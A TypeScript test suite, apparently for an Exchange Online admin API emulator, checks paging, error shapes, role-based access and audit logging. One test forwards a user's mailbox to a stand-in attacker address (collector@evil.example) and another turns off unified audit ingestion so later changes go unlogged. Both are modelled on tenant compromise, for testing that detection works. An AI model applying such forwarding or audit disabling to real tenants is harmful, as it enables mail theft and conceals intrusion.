// The Exchange admin API (InvokeCommand): paging every mailbox through @odata.nextLink, the module's error shape,
// RBAC by role group, and write cmdlets that change the tenant and leave ExchangeAdmin audit records that show up in
// Search-UnifiedAuditLog, the Graph audit log query and the Management Activity feed after the ingestion delay.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startEmulator, type RunningEmulator } from '../../emulator/index.ts';
import { admin } from './support/admin.ts';
import { appTokens } from './support/appTokens.ts';
import { request, TEST_DATA_DIR, trustingDispatcher } from './support/clients.ts';
import { errorDetail, invoke, invokeAll } from './support/exo.ts';
import { formSignIn } from './support/formSignIn.ts';

let emulator: RunningEmulator;
let dispatcher: ReturnType<typeof trustingDispatcher>;
let tokenFor: ReturnType<typeof appTokens>;
let appExo: string;

beforeAll(async () => {
  emulator = await startEmulator({
    seed: 'exo-contract',
    users: 2000,
    days: 1,
    scenarios: 'none',
    dataDir: TEST_DATA_DIR,
    ingestionDelaySeconds: 600,
    logLevel: 'warn',
  });
  dispatcher = trustingDispatcher(emulator.info.caCert);
  tokenFor = appTokens(emulator.info, dispatcher);
  appExo = await tokenFor('https://outlook.office365.com');
});

afterAll(async () => {
  await emulator?.stop();
  await dispatcher?.close();
});

async function delegatedExo(index: number): Promise<string> {
  const user = emulator.info.users[index];
  if (!user) throw new Error(`no ready-line user ${index}`);
  return (await formSignIn(dispatcher, emulator.info.authority, emulator.info.publicClientId, user, 'https://outlook.office365.com/Exchange.Manage'))
    .accessToken;
}

describe('InvokeCommand', () => {
  it('pages every mailbox with Get-Mailbox through @odata.nextLink', async () => {
    const first = await invoke(dispatcher, emulator.info, appExo, 'Get-Mailbox', { ResultSize: 'Unlimited' }, { pageSize: 500 });
    expect(first.status).toBe(200);
    expect(first.response.headers.get('content-type')).toContain('odata.metadata=minimal');
    expect(Number(first.response.headers.get('rate-limit-limit'))).toBeGreaterThan(0);
    expect(first.value).toHaveLength(500);
    expect(first.value[0]).toMatchObject({ 'EmailAddresses@odata.type': '#Collection(String)' });
    const { items, pages } = await invokeAll<{ UserPrincipalName: string }>(dispatcher, emulator.info, appExo, 'Get-Mailbox', { ResultSize: 'Unlimited' }, 500);
    const expected = emulator.tenant.state.mailboxes.map((m) => m.UserPrincipalName);
    expect(expected.length).toBeGreaterThan(2000);
    expect(items.map((m) => m.UserPrincipalName)).toEqual(expected);
    expect(pages).toBe(Math.ceil(expected.length / 500));

    // Without ResultSize, Exchange stops at 1000 and says so.
    const capped = await invokeAll(dispatcher, emulator.info, appExo, 'Get-Mailbox', {}, 1000);
    expect(capped.items).toHaveLength(1000);
    const warned = await invoke(dispatcher, emulator.info, appExo, 'Get-Mailbox', {});
    expect(warned.warnings[0]).toContain('There are more results available');
  });

  it('answers unknown cmdlets, unknown parameters, unknown objects and bad bodies with the module error shape', async () => {
    const unknown = await invoke(dispatcher, emulator.info, appExo, 'Get-Frobnicator');
    expect(unknown.status).toBe(400);
    expect(errorDetail(unknown)).toMatchObject({
      type: 'System.Management.Automation.CommandNotFoundException',
      message: expect.stringContaining("The term 'Get-Frobnicator' is not recognized"),
    });
    expect(unknown.response.body).toMatchObject({
      error: { message: 'Error executing cmdlet', innererror: { type: 'Microsoft.Exchange.Admin.OData.Core.ODataServiceException' } },
    });

    const parameter = await invoke(dispatcher, emulator.info, appExo, 'Get-Mailbox', { Identiti: 'x' });
    expect(parameter.status).toBe(400);
    expect(errorDetail(parameter)).toMatchObject({
      type: 'System.Management.Automation.ParameterBindingException',
      message: "A parameter cannot be found that matches parameter name 'Identiti'.",
    });

    const missing = await invoke(dispatcher, emulator.info, appExo, 'Get-Mailbox', { Identity: 'nobody@nowhere.example' });
    expect(missing.status).toBe(404);
    expect(missing.response.headers.get('x-exceptiontype')).toBe('ManagementObjectNotFoundException');
    expect(errorDetail(missing).message).toMatch(/^The operation couldn't be performed because object 'nobody@nowhere\.example' couldn't be found on '.+'\.$/);

    const garbage = await request(dispatcher, `${emulator.info.exo}/adminapi/beta/${emulator.info.tenantId}/InvokeCommand`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${appExo}`, 'Content-Type': 'application/json' },
      body: '{"CmdletInput":',
    });
    expect(garbage.status).toBe(400);
    const anonymous = await request(dispatcher, `${emulator.info.exo}/adminapi/beta/${emulator.info.tenantId}/InvokeCommand`, { method: 'POST', body: '{}' });
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get('www-authenticate')).toContain('Bearer client_id="00000002-0000-0ff1-ce00-000000000000"');
  });

  it('lets a caller run only the cmdlets its role groups grant', async () => {
    const member = await invoke(dispatcher, emulator.info, await delegatedExo(2), 'Get-Mailbox', { ResultSize: 1 });
    expect(member.status).toBe(403);
    expect(errorDetail(member).type).toBe('Microsoft.Exchange.Configuration.Tasks.CmdletAccessDeniedException');

    const reviewer = await delegatedExo(4);
    expect((await invoke(dispatcher, emulator.info, reviewer, 'Get-Mailbox', { ResultSize: 1 })).status).toBe(200);
    expect((await invoke(dispatcher, emulator.info, reviewer, 'Search-UnifiedAuditLog', { StartDate: '2020-01-01', EndDate: '2020-01-02' })).status).toBe(200);
    const write = await invoke(dispatcher, emulator.info, reviewer, 'Set-Mailbox', { Identity: emulator.info.users[2]!.upn, AuditEnabled: false });
    expect(write.status).toBe(403);
  });

  it('serves the external forwarding settings: remote domains and outbound spam policies', async () => {
    const domains = await invoke(dispatcher, emulator.info, appExo, 'Get-RemoteDomain');
    expect(domains.value).toEqual([expect.objectContaining({ Identity: 'Default', DomainName: '*', AutoForwardEnabled: true })]);
    const policy = await invoke(dispatcher, emulator.info, appExo, 'Get-HostedOutboundSpamFilterPolicy', { Identity: 'default' });
    expect(policy.value).toEqual([expect.objectContaining({ Identity: 'Default', IsDefault: true, AutoForwardingMode: 'Automatic' })]);

    const badMode = await invoke(dispatcher, emulator.info, appExo, 'Set-HostedOutboundSpamFilterPolicy', { Identity: 'Default', AutoForwardingMode: 'Sometimes' });
    expect(badMode.status).toBe(400);
    expect(errorDetail(badMode).message).toMatch(/Cannot convert value "Sometimes".*"Automatic, On, Off"/);
    const missing = await invoke(dispatcher, emulator.info, appExo, 'Set-RemoteDomain', { Identity: 'Contoso partners', AutoForwardEnabled: false });
    expect(missing.status).toBe(404);

    // A reader (View-Only Organization Management) sees them and may not change them.
    const reviewer = await delegatedExo(4);
    expect((await invoke(dispatcher, emulator.info, reviewer, 'Get-RemoteDomain')).status).toBe(200);
    expect((await invoke(dispatcher, emulator.info, reviewer, 'Set-RemoteDomain', { Identity: 'Default', AutoForwardEnabled: false })).status).toBe(403);

    expect((await invoke(dispatcher, emulator.info, appExo, 'Set-RemoteDomain', { Identity: 'Default', AutoForwardEnabled: false })).status).toBe(200);
    expect((await invoke(dispatcher, emulator.info, appExo, 'Get-RemoteDomain', { Identity: 'Default' })).value).toEqual([
      expect.objectContaining({ AutoForwardEnabled: false }),
    ]);
    expect((await invoke(dispatcher, emulator.info, appExo, 'Set-RemoteDomain', { Identity: 'Default', AutoForwardEnabled: true })).status).toBe(200);
  });

  it('applies write cmdlets and logs them as ExchangeAdmin records, searchable once ingested', async () => {
    const exchangeAdmin = emulator.info.users[1]!;
    const target = emulator.info.users[2]!.upn;
    const token = await delegatedExo(1);
    const set = await invoke(dispatcher, emulator.info, token, 'Set-Mailbox', {
      Identity: target,
      ForwardingSmtpAddress: 'collector@evil.example',
      DeliverToMailboxAndForward: true,
      Confirm: false,
    });
    expect(set.status).toBe(200);
    expect(set.value).toEqual([]);
    const after = await invoke<{ ForwardingSmtpAddress: string; DeliverToMailboxAndForward: boolean }>(dispatcher, emulator.info, appExo, 'Get-Mailbox', {
      Identity: target,
    });
    expect(after.value[0]).toMatchObject({ ForwardingSmtpAddress: 'smtp:collector@evil.example', DeliverToMailboxAndForward: true });

    const window = {
      StartDate: new Date(Date.now() - 3_600_000).toISOString().slice(0, 19),
      EndDate: new Date(Date.now() + 3 * 3_600_000).toISOString().slice(0, 19),
    };
    const search = () =>
      invoke<{ Operations: string; RecordType: string; AuditData: string; ResultCount: number }>(dispatcher, emulator.info, appExo, 'Search-UnifiedAuditLog', {
        ...window,
        Operations: ['Set-Mailbox'],
        ResultSize: 100,
      });
    expect((await search()).value).toEqual([]);
    // The ingestion delay is 600 s here: move the emulator's ingestion clock past it.
    await admin(dispatcher, emulator.info, '/clock', { advanceSeconds: 601 });
    const found = (await search()).value;
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ Operations: 'Set-Mailbox', RecordType: 'ExchangeAdmin', ResultCount: 1 });
    const record = JSON.parse(found[0]!.AuditData) as {
      RecordType: number;
      UserId: string;
      ObjectId: string;
      ResultStatus: string;
      Parameters: Array<{ Name: string; Value: string }>;
      ClientIP: string;
    };
    expect(record).toMatchObject({ RecordType: 1, UserId: exchangeAdmin.upn, ResultStatus: 'True' });
    expect(record.Parameters).toEqual(
      expect.arrayContaining([
        { Name: 'Identity', Value: target },
        { Name: 'ForwardingSmtpAddress', Value: 'collector@evil.example' },
        { Name: 'DeliverToMailboxAndForward', Value: 'True' },
      ]),
    );
    expect(record.Parameters.map((p) => p.Name)).not.toContain('Confirm');
    expect(record.ClientIP).toMatch(/^127\.0\.0\.1:\d+$/);

    // ... through the Graph audit log query ...
    const graph = await tokenFor('https://graph.microsoft.com');
    const query = await request(dispatcher, `${emulator.info.graph}/beta/security/auditLog/queries`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${graph}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ filterStartDateTime: `${window.StartDate}Z`, filterEndDateTime: `${window.EndDate}Z`, operationFilters: ['Set-Mailbox'] }),
    });
    const queryId = (query.body as { id: string }).id;
    await new Promise((r) => setTimeout(r, 1100));
    const records = await request(dispatcher, `${emulator.info.graph}/beta/security/auditLog/queries/${queryId}/records`, {
      headers: { Authorization: `Bearer ${graph}` },
    });
    expect((records.body as { value: Array<{ id: string; operation: string; userPrincipalName: string }> }).value).toEqual([
      expect.objectContaining({ id: (JSON.parse(found[0]!.AuditData) as { Id: string }).Id, operation: 'Set-Mailbox', userPrincipalName: exchangeAdmin.upn }),
    ]);

    // The same record through the Management Activity feed: blobs of new records are published minute by minute.
    await admin(dispatcher, emulator.info, '/clock', { advanceSeconds: 60 });
    const manage = await tokenFor('https://manage.office.com');
    const root = `${emulator.info.manage}/api/v1.0/${emulator.info.tenantId}/activity/feed`;
    await request(dispatcher, `${root}/subscriptions/start?contentType=Audit.Exchange`, { method: 'POST', headers: { Authorization: `Bearer ${manage}` } });
    const blobs: Array<{ contentUri: string }> = [];
    let next: string | undefined = `${root}/subscriptions/content?contentType=Audit.Exchange`;
    while (next) {
      const page = await request(dispatcher, next, { headers: { Authorization: `Bearer ${manage}` } });
      blobs.push(...(page.body as Array<{ contentUri: string }>));
      next = page.headers.get('nextpageuri') ?? undefined;
    }
    let inFeed = false;
    for (const blob of blobs.slice(-5)) {
      const records = (await request(dispatcher, blob.contentUri, { headers: { Authorization: `Bearer ${manage}` } })).body as Array<{ Id: string }>;
      if (records.some((r) => r.Id === (JSON.parse(found[0]!.AuditData) as { Id: string }).Id)) inFeed = true;
    }
    expect(inFeed).toBe(true);
  });

  it('changes role group membership, and the new member gains the cmdlets at once', async () => {
    const member = emulator.info.users[2]!;
    const add = await invoke(dispatcher, emulator.info, appExo, 'Add-RoleGroupMember', {
      Identity: 'Organization Management',
      Member: member.upn,
      BypassSecurityGroupManagerCheck: true,
    });
    expect(add.status).toBe(200);
    const again = await invoke(dispatcher, emulator.info, appExo, 'Add-RoleGroupMember', { Identity: 'Organization Management', Member: member.upn });
    expect(again.status).toBe(400);
    expect(errorDetail(again).type).toBe('Microsoft.Exchange.Management.Tasks.MemberAlreadyExistsException');
    const members = await invoke<{ WindowsLiveID: string }>(dispatcher, emulator.info, appExo, 'Get-RoleGroupMember', { Identity: 'Organization Management' });
    expect(members.value.map((m) => m.WindowsLiveID)).toContain(member.upn);
    const token = await delegatedExo(2);
    expect((await invoke(dispatcher, emulator.info, token, 'Get-Mailbox', { ResultSize: 1 })).status).toBe(200);
    expect(
      (await invoke(dispatcher, emulator.info, appExo, 'Remove-RoleGroupMember', { Identity: 'Organization Management', Member: member.upn })).status,
    ).toBe(200);
    expect((await invoke(dispatcher, emulator.info, token, 'Get-Mailbox', { ResultSize: 1 })).status).toBe(403);
  });

  it('lists the cmdlets a management role grants with Get-ManagementRoleEntry "Role\\*"', async () => {
    const entries = await invoke<{ Identity: string; Name: string; Role: string }>(dispatcher, emulator.info, appExo, 'Get-ManagementRoleEntry', {
      Identity: 'Role Management\\*',
      ResultSize: 'Unlimited',
    });
    expect(entries.status).toBe(200);
    expect(entries.value.map((e) => e.Name)).toContain('Add-RoleGroupMember');
    expect(entries.value.every((e) => e.Role === 'Role Management' && e.Identity === `Role Management\\${e.Name}`)).toBe(true);
    const one = await invoke<{ Name: string }>(dispatcher, emulator.info, appExo, 'Get-ManagementRoleEntry', { Identity: 'mail recipients\\set-*' });
    expect(one.value.map((e) => e.Name).sort()).toEqual(['Set-CASMailbox', 'Set-Mailbox', 'Set-InboxRule', 'Set-MailboxFolderPermission', 'Set-User'].sort());
    const unknown = await invoke(dispatcher, emulator.info, appExo, 'Get-ManagementRoleEntry', { Identity: 'No Such Role\\*' });
    expect(unknown.status).toBe(404);
  });

  it('grants and removes FullAccess, turns unified audit ingestion off, and then logs nothing more', async () => {
    const owner = emulator.info.users[0]!.upn;
    const grantee = emulator.info.users[2]!.upn;
    expect(
      (
        await invoke(dispatcher, emulator.info, appExo, 'Add-MailboxPermission', {
          Identity: owner,
          User: grantee,
          AccessRights: ['FullAccess'],
          InheritanceType: 'All',
        })
      ).status,
    ).toBe(200);
    const rows = await invoke<{ User: string; AccessRights: string[] }>(dispatcher, emulator.info, appExo, 'Get-MailboxPermission', { Identity: owner });
    expect(rows.value.find((r) => r.User === grantee)?.AccessRights).toEqual(['FullAccess']);
    expect(
      (
        await invoke(dispatcher, emulator.info, appExo, 'Remove-MailboxPermission', {
          Identity: owner,
          User: grantee,
          AccessRights: ['FullAccess'],
          Confirm: false,
        })
      ).status,
    ).toBe(200);
    const overlayBefore = emulator.tenant.state.adminAuditLogConfig.UnifiedAuditLogIngestionEnabled;
    expect(overlayBefore).toBe(true);
    expect((await invoke(dispatcher, emulator.info, appExo, 'Set-AdminAuditLogConfig', { UnifiedAuditLogIngestionEnabled: false })).status).toBe(200);
    expect((await invoke(dispatcher, emulator.info, appExo, 'Set-CASMailbox', { Identity: grantee, PopEnabled: true })).status).toBe(200);
    await admin(dispatcher, emulator.info, '/clock', { advanceSeconds: 601 });
    const window = {
      StartDate: new Date(Date.now() - 3_600_000).toISOString().slice(0, 19),
      EndDate: new Date(Date.now() + 3 * 3_600_000).toISOString().slice(0, 19),
    };
    const ops = (await invoke<{ Operations: string }>(dispatcher, emulator.info, appExo, 'Search-UnifiedAuditLog', { ...window, ResultSize: 100 })).value.map(
      (r) => r.Operations,
    );
    expect(ops).toEqual(expect.arrayContaining(['Add-MailboxPermission', 'Remove-MailboxPermission', 'Set-AdminAuditLogConfig']));
    expect(ops).not.toContain('Set-CASMailbox');
  });
});
